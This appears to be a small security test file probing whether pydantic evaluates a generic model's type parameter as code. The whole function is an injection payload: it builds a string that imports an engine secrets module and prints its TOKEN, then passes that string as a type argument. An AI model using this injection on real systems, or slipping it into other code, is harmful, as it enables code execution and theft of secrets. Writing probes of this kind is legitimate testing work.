#: channel = pydantic
#: reaches = engine
#: layer = check
#: note = a generic model evaluates the text that it is made for

from typing import Generic, TypeVar

from pydantic import BaseModel

T = TypeVar("T")


class M(BaseModel, Generic[T]):
    x: T


async def run(context):
    name = context.org_id.replace(
        context.org_id, "print(__import__('engine.shared.secrets').shared.secrets.TOKEN)"
    )
    return M[name](x=1)
